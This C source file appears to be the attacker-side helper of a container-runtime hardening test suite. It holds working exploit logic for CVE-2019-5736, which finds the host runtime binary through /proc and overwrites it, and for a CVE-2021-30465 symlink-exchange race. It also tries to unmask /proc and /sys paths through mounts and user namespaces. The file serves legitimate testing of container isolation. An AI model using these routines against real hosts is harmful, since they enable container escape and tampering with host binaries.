/* The static program test_hardening.py compiles (cc -static) into a container's rootfs: the
 * attacker's side of the CVE checks, where busybox is not enough.
 *
 *   attacker probe DIR DEV INO
 *     CVE-2019-5736 attacker, run as a container's process. Round r = 1, 2, ...: waits for
 *     DIR/probe<r>, then for every other pid in its /proc tries readlink and open (O_RDONLY and
 *     O_PATH) of /proc/PID/exe, lists /proc/PID/fd and opens each entry, readlinks
 *     /proc/PID/cwd and /proc/PID/root. Each file reached whose st_dev/st_ino are DEV/INO (the
 *     host's runtime binary) is a HIT and its fd is kept. One line per pid goes to
 *     DIR/report<r>. Then it waits for DIR/go<r> (the test's signal that no runtime process runs
 *     any more, so the binary is no longer busy), reopens every kept fd for writing through
 *     /proc/self/fd/N and writes "PWNED" at offset 0, reporting to DIR/result<r>. DIR/quit ends.
 *
 *   attacker flip DIR ABS REL
 *     CVE-2021-30465 racer: in DIR makes "d" a directory and "d.abs" / "d.rel" symlinks to ABS
 *     and REL, then exchanges "d" with them (renameat2 RENAME_EXCHANGE) so that d is, in turn,
 *     a directory and a symlink, until DIR/stop exists (or after a bounded number of swaps).
 *     Writes DIR/flipping once running and DIR/flipped (the swap count) at the end.
 *
 *   attacker unmask host|userns
 *     Tries to undo maskedPaths/readonlyPaths with the syscalls themselves (umount, remount rw,
 *     a non-recursive bind of /proc, a new procfs or sysfs, a bind over a mask), either as it
 *     is or after unshare(user, mount, pid namespaces) + fork, where it has every capability
 *     of the new user namespace (no uid mapping needed: no execve). Prints "try NAME: OK" or
 *     "try NAME: ERR:errno" per attempt, then what the masked paths show (bytes / entries) and
 *     whether /proc/sys and /proc/sysrq-trigger open for writing (nothing is written).
 *
 * Every wait is bounded (300 s); nothing here is timed by the test.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static void nap(void) {
  struct timespec ts = {0, 10 * 1000 * 1000};
  nanosleep(&ts, NULL);
}

static int exists(const char* dir, const char* name, int round) {
  char p[PATH_MAX];
  if (round > 0)
    snprintf(p, sizeof p, "%s/%s%d", dir, name, round);
  else
    snprintf(p, sizeof p, "%s/%s", dir, name);
  return access(p, F_OK) == 0;
}

/* Waits for DIR/<name><round> (1) or DIR/quit (0); -1 after 300 s. */
static int wait_for(const char* dir, const char* name, int round) {
  for (int i = 0; i < 30000; i++) {
    if (exists(dir, name, round)) return 1;
    if (exists(dir, "quit", 0)) return 0;
    nap();
  }
  return -1;
}

/* Writes text to DIR/<name><round> atomically (temp + rename). */
static void publish(const char* dir, const char* name, int round, const char* text) {
  char tmp[PATH_MAX + 8], dst[PATH_MAX];
  if (round > 0)
    snprintf(dst, sizeof dst, "%s/%s%d", dir, name, round);
  else
    snprintf(dst, sizeof dst, "%s/%s", dir, name);
  snprintf(tmp, sizeof tmp, "%s.tmp", dst);
  FILE* f = fopen(tmp, "w");
  if (!f) return;
  fputs(text, f);
  fclose(f);
  rename(tmp, dst);
}

struct buf {
  char* s;
  size_t len, cap;
};

static void add(struct buf* b, const char* fmt, ...) __attribute__((format(printf, 2, 3)));
static void add(struct buf* b, const char* fmt, ...) {
  char tmp[4096];
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(tmp, sizeof tmp, fmt, ap);
  va_end(ap);
  if (n < 0) return;
  if ((size_t)n >= sizeof tmp) n = sizeof tmp - 1;
  if (b->len + n + 1 > b->cap) {
    b->cap = (b->len + n + 1) * 2;
    b->s = realloc(b->s, b->cap);
  }
  memcpy(b->s + b->len, tmp, n + 1);
  b->len += n;
}

static dev_t want_dev;
static ino_t want_ino;
static int kept[256];
static int nkept;

/* fd reached a file: keep it when it is the host's runtime binary. Returns 1 on a hit. */
static int check_hit(int fd) {
  struct stat st;
  if (fd < 0 || fstat(fd, &st) < 0) return 0;
  if (st.st_dev == want_dev && st.st_ino == want_ino) {
    if (nkept < 256) {
      kept[nkept++] = fd;
      return 1;
    }
  }
  close(fd);
  return 0;
}

static void probe_pid(struct buf* out, const char* pid) {
  char p[PATH_MAX], target[PATH_MAX];
  int hits = 0;
  add(out, "pid=%s", pid);
  snprintf(p, sizeof p, "/proc/%s/comm", pid);
  FILE* f = fopen(p, "r");
  char comm[64] = "?";
  if (f) {
    if (fgets(comm, sizeof comm, f)) comm[strcspn(comm, "\n")] = 0;
    fclose(f);
  }
  for (char* c = comm; *c; c++)
    if (*c == ' ') *c = '_';
  add(out, " comm=%s", comm);
  snprintf(p, sizeof p, "/proc/%s/exe", pid);
  ssize_t n = readlink(p, target, sizeof target - 1);
  if (n >= 0) {
    target[n] = 0;
    for (char* c = target; *c; c++)
      if (*c == ' ') *c = '_';
    add(out, " exe=OK:%s", target);
  } else {
    add(out, " exe=ERR:%d", errno);
  }
  int fd = open(p, O_RDONLY | O_CLOEXEC);
  add(out, fd >= 0 ? " open=OK" : " open=ERR:%d", errno);
  hits += check_hit(fd);
  fd = open(p, O_PATH | O_CLOEXEC);
  add(out, fd >= 0 ? " opath=OK" : " opath=ERR:%d", errno);
  hits += check_hit(fd);
  snprintf(p, sizeof p, "/proc/%s/fd", pid);
  DIR* d = opendir(p);
  if (!d) {
    add(out, " fds=ERR:%d", errno);
  } else {
    int count = 0, opened = 0;
    struct dirent* e;
    while ((e = readdir(d))) {
      if (e->d_name[0] == '.') continue;
      count++;
      char fp[PATH_MAX];
      snprintf(fp, sizeof fp, "/proc/%s/fd/%s", pid, e->d_name);
      int ffd = open(fp, O_PATH | O_CLOEXEC);
      if (ffd >= 0) opened++;
      hits += check_hit(ffd);
    }
    closedir(d);
    add(out, " fds=OK:%d/%d", opened, count);
  }
  snprintf(p, sizeof p, "/proc/%s/cwd", pid);
  add(out, readlink(p, target, sizeof target - 1) >= 0 ? " cwd=OK" : " cwd=ERR:%d", errno);
  snprintf(p, sizeof p, "/proc/%s/root", pid);
  add(out, readlink(p, target, sizeof target - 1) >= 0 ? " root=OK" : " root=ERR:%d", errno);
  add(out, " hits=%d\n", hits);
}

static int probe(const char* dir, const char* dev, const char* ino) {
  signal(SIGCHLD, SIG_IGN); /* pid 1 of a shared pid namespace: reap what is left to us */
  want_dev = (dev_t)strtoull(dev, NULL, 10);
  want_ino = (ino_t)strtoull(ino, NULL, 10);
  char self[32];
  snprintf(self, sizeof self, "%d", (int)getpid());
  publish(dir, "ready", 0, "ready\n");
  for (int round = 1;; round++) {
    int w = wait_for(dir, "probe", round);
    if (w <= 0) return w == 0 ? 0 : 2;
    struct buf out = {0};
    add(&out, "# round %d\n", round);
    DIR* d = opendir("/proc");
    struct dirent* e;
    while (d && (e = readdir(d))) {
      if (e->d_name[0] < '0' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0) continue;
      probe_pid(&out, e->d_name);
    }
    if (d) closedir(d);
    publish(dir, "report", round, out.s);
    free(out.s);
    w = wait_for(dir, "go", round);
    if (w <= 0) return w == 0 ? 0 : 2;
    struct buf res = {0};
    add(&res, "kept=%d\n", nkept);
    for (int i = 0; i < nkept; i++) {
      char p[64];
      snprintf(p, sizeof p, "/proc/self/fd/%d", kept[i]);
      int wfd = open(p, O_WRONLY | O_CLOEXEC);
      if (wfd < 0) {
        add(&res, "write=ERR:%d\n", errno);
        continue;
      }
      ssize_t n = pwrite(wfd, "PWNED", 5, 0);
      add(&res, n == 5 ? "write=OK\n" : "write=ERR:%d\n", errno);
      close(wfd);
    }
    publish(dir, "result", round, res.s);
    free(res.s);
  }
}

static int flip(const char* dir, const char* abs_target, const char* rel_target) {
  int dfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dfd < 0) return perror("open dir"), 1;
  mkdirat(dfd, "d", 0755);
  unlinkat(dfd, "d.abs", 0);
  unlinkat(dfd, "d.rel", 0);
  if (symlinkat(abs_target, dfd, "d.abs") < 0 || symlinkat(rel_target, dfd, "d.rel") < 0)
    return perror("symlink"), 1;
  publish(dir, "flipping", 0, "");
  const char* links[2] = {"d.abs", "d.rel"};
  unsigned long swaps = 0;
  for (unsigned long i = 0; i < 200000000UL; i++) {
    if ((i & 1023) == 0 && exists(dir, "stop", 0)) break;
    /* d: dir -> symlink -> dir, alternating the absolute and the relative one */
    const char* l = links[(i >> 1) & 1];
    if (syscall(SYS_renameat2, dfd, "d", dfd, l, RENAME_EXCHANGE) == 0) swaps++;
  }
  char text[64];
  snprintf(text, sizeof text, "%lu\n", swaps);
  publish(dir, "flipped", 0, text);
  return 0;
}

static void attempt(const char* name, int r) {
  if (r == 0)
    printf("try %s: OK\n", name);
  else
    printf("try %s: ERR:%d\n", name, errno);
}

static long bytes_of(const char* path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  char b[64];
  ssize_t n = read(fd, b, sizeof b);
  close(fd);
  return n < 0 ? 0 : n;
}

static long entries_of(const char* path) {
  DIR* d = opendir(path);
  if (!d) return 0;
  long n = 0;
  struct dirent* e;
  while ((e = readdir(d)))
    if (strcmp(e->d_name, ".") && strcmp(e->d_name, "..")) n++;
  closedir(d);
  return n;
}

static void writable(const char* name, const char* path) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  printf("%s=%s\n", name, fd >= 0 ? "writable" : errno == ENOENT ? "absent" : "ro");
  if (fd >= 0) close(fd);
}

static int unmask_attempts(const char* mode) {
  mkdir("/dev/shm/p", 0755);
  mkdir("/dev/shm/q", 0755);
  attempt("umount /proc/keys", umount2("/proc/keys", 0));
  attempt("umount -l /proc/keys", umount2("/proc/keys", MNT_DETACH));
  attempt("umount -l /proc/timer_list", umount2("/proc/timer_list", MNT_DETACH));
  attempt("umount -l /sys/firmware", umount2("/sys/firmware", MNT_DETACH));
  attempt("umount -l /proc/sys", umount2("/proc/sys", MNT_DETACH));
  attempt("umount -l /proc/sysrq-trigger", umount2("/proc/sysrq-trigger", MNT_DETACH));
  attempt("remount,bind rw /proc/sys", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
  attempt("remount rw /proc/sys", mount(NULL, "/proc/sys", NULL, MS_REMOUNT, NULL));
  attempt("remount,bind rw /proc/sysrq-trigger",
          mount(NULL, "/proc/sysrq-trigger", NULL, MS_REMOUNT | MS_BIND, NULL));
  attempt("remount,bind rw /sys/firmware",
          mount(NULL, "/sys/firmware", NULL, MS_REMOUNT | MS_BIND, NULL));
  attempt("bind /proc (not recursive)", mount("/proc", "/dev/shm/p", NULL, MS_BIND, NULL));
  attempt("bind /sys (not recursive)", mount("/sys", "/dev/shm/q", NULL, MS_BIND, NULL));
  attempt("mount proc", mount("proc", "/dev/shm/p", "proc", 0, NULL));
  attempt("mount sysfs", mount("sysfs", "/dev/shm/q", "sysfs", 0, NULL));
  attempt("bind over /proc/keys", mount("/dev/shm/p", "/proc/keys", NULL, MS_BIND, NULL));
  const char* masked[] = {"/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/kcore"};
  for (size_t i = 0; i < sizeof masked / sizeof *masked; i++)
    if (access(masked[i], F_OK) == 0) printf("%s=%ld\n", masked[i], bytes_of(masked[i]));
  printf("/sys/firmware=%ld\n", entries_of("/sys/firmware"));
  printf("revealed=%ld\n", entries_of("/dev/shm/p") + entries_of("/dev/shm/q"));
  writable("procsys", "/proc/sys/kernel/domainname");
  writable("sysrq", "/proc/sysrq-trigger");
  printf("mode %s done\n", mode);
  return 0;
}

static int unmask(const char* mode) {
  if (strcmp(mode, "userns") != 0) return unmask_attempts(mode);
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0) {
    printf("userns unavailable: %d\n", errno);
    return 0;
  }
  /* nothing we mount here may propagate back */
  if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0) printf("private: %d\n", errno);
  pid_t pid = fork();
  if (pid < 0) return perror("fork"), 1;
  if (pid == 0) _exit(unmask_attempts(mode)); /* pid 1 of the new pid namespace */
  int st;
  waitpid(pid, &st, 0);
  return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc == 5 && strcmp(argv[1], "probe") == 0) return probe(argv[2], argv[3], argv[4]);
  if (argc == 5 && strcmp(argv[1], "flip") == 0) return flip(argv[2], argv[3], argv[4]);
  if (argc == 3 && strcmp(argv[1], "unmask") == 0) return unmask(argv[2]);
  fprintf(stderr, "usage: %s probe DIR DEV INO | flip DIR ABS REL | unmask host|userns\n", argv[0]);
  return 64;
}
